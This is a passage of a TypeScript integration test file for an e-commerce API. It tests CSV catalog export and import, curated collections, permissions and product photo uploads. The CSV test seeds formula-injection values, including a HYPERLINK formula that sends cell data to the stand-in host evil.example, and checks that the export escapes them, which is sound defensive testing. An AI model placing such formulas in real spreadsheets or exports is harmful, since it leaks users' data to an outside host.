    const tenant = tenantOf('saa-bora');
    const formulas = {
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click for a discount")',
      brand: '+254700000000',
      description: '@SUM(1+1)\nsecond line',
    };
    const [product] = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(
            `UPDATE products SET title = $2, brand = $3, description = $4 WHERE tenant_id = $1 AND slug = (SELECT slug FROM products WHERE tenant_id = $1 AND status = 'active' ORDER BY slug DESC LIMIT 1) RETURNING slug`,
            [tenant, formulas.title, formulas.brand, formulas.description],
          )
        ).rows,
    );
    const res = await fetch(`${stack.api.url}/v1/owner/catalog/export.csv`, {
      headers: { authorization: `Bearer ${owner.accessToken}`, 'x-forwarded-for': '198.51.200.3' },
    });
    const records = parse(await res.text());
    const row = records.find((r) => r[0] === product!.slug)!;
    assert.deepEqual(
      [row[1], row[2], row[4]],
      [`'${formulas.title}`, `'${formulas.brand}`, `'${formulas.description}`],
    );
    for (const record of records.slice(1)) {
      for (const cell of record) assert.doesNotMatch(cell, /^[=+@\t\r]/, 'no cell of the export starts like a formula');
    }
    const again = await importCsv(stringify(records), owner.accessToken);
    assert.deepEqual(again.body.errors, []);
    const [stored] = await withClient(
      stack.db.ownerUrl,
      async (c) =>
        (
          await c.query<DbRow>(`SELECT title, brand, description FROM products WHERE tenant_id = $1 AND slug = $2`, [
            tenant,
            product!.slug,
          ])
        ).rows,
    );
    assert.deepEqual(stored, formulas, 'the round trip changes nothing');
  });

  test('import needs catalog.write, a CSV body and real columns', async () => {
    const staff = await login('saa-bora', 'staff');
    assert.equal((await importCsv(`${header}\n`, staff.accessToken)).status, 403);
    const owner = await login('saa-bora', 'owner');
    const noColumns = await importCsv('name,price\nX,1\n', owner.accessToken);
    assert.deepEqual(noColumns.body.errors[0]!.line, 1);
    const json = await call('POST', '/v1/owner/catalog/import', { rows: [] }, owner.accessToken);
    assert.equal(json.status, 415);
  });
});

describe('collections', () => {
  test('the seed gives every store a Top picks shelf; an owner curates a collection in order', async () => {
    const list = await call('GET', '/v1/stores/mtindo-fashion/collections');
    assert.equal(list.status, 200);
    assert.ok(list.body.collections.some((c) => c.slug === 'top-picks' && c.productCount > 0));
    const owner = await login('mtindo-fashion', 'owner');
    const items = await activeProducts(owner.accessToken, 3);
    const slugs = items.map((p) => p.slug).reverse();
    const saved = await call(
      'PUT',
      '/v1/owner/catalog/collections/back-to-school',
      { title: 'Back to school', productSlugs: slugs },
      owner.accessToken,
    );
    assert.equal(saved.status, 200, JSON.stringify(saved.body));
    const shelf = await call('GET', '/v1/stores/mtindo-fashion/collections/back-to-school');
    assert.deepEqual(
      shelf.body.items.map((i) => i.slug),
      slugs,
      'in the order the owner gave',
    );
    const bad = await call(
      'PUT',
      '/v1/owner/catalog/collections/back-to-school',
      { title: 'x', productSlugs: ['no-such-product'] },
      owner.accessToken,
    );
    assert.equal(bad.status, 400);
    assert.deepEqual(
      (await call('GET', '/v1/stores/mtindo-fashion/collections/back-to-school')).body.items.length,
      slugs.length,
      'a refused edit changed nothing',
    );
    const staff = await login('mtindo-fashion', 'staff');
    assert.equal(
      (await call('PUT', '/v1/owner/catalog/collections/x', { title: 'x', productSlugs: [] }, staff.accessToken))
        .status,
      403,
    );
    assert.equal(
      (await call('GET', '/v1/stores/saa-bora/collections/back-to-school')).status,
      404,
      'another store does not see it',
    );
  });
});

describe('product photos', () => {
  test('an owner uploads a photo: a clean WebP plus AVIF/WebP renditions, shown on the product', async () => {
    const sharp = (await import('sharp')).default;
    const owner = await login('nyumba-living', 'owner');
    const items = await activeProducts(owner.accessToken);
    const slug = items[0]!.slug;
    const photo = await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#b5651d' } })
      .jpeg()
      .toBuffer();
    const upload = (bytes: Buffer, type: string, token = owner.accessToken) =>
      fetch(`${stack.api.url}/v1/owner/catalog/products/${slug}/images?alt=Sofa%20in%20a%20Kilimani%20flat`, {
        method: 'POST',
        headers: { 'content-type': type, authorization: `Bearer ${token}`, 'x-forwarded-for': '198.51.201.1' },
        body: new Uint8Array(bytes),
      });
    const res = await upload(photo, 'image/jpeg');
    assert.equal(res.status, 201, await res.clone().text());
    const uploaded = (await res.json()) as {
      image: { width: number; url: string };
      renditions: { format: string; width: number }[];
    };
    assert.equal(uploaded.image.width, 1200);
    assert.ok(uploaded.renditions.some((r) => r.format === 'avif' && r.width === 320));
    const detail = await call('GET', `/v1/stores/nyumba-living/products/${slug}`);
    assert.ok(
      detail.body.product.images.some((i) => i.url === uploaded.image.url && i.alt === 'Sofa in a Kilimani flat'),
    );
    const served = await fetch(`${stack.api.url}${uploaded.image.url}?w=300`, {
      headers: { accept: 'image/avif,image/webp' },
    });
    assert.equal(served.status, 200);
    assert.equal(served.headers.get('content-type'), 'image/avif');
    assert.equal((await sharp(Buffer.from(await served.arrayBuffer())).metadata()).width, 320);

    assert.equal((await upload(Buffer.from('not an image at all'), 'image/png')).status, 415);
    const tiny = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000000' } })
      .png()
      .toBuffer();
    assert.equal((await upload(tiny, 'image/png')).status, 400);
    const staff = await login('nyumba-living', 'staff');
    assert.equal((await upload(photo, 'image/jpeg', staff.accessToken)).status, 403);
  });
});
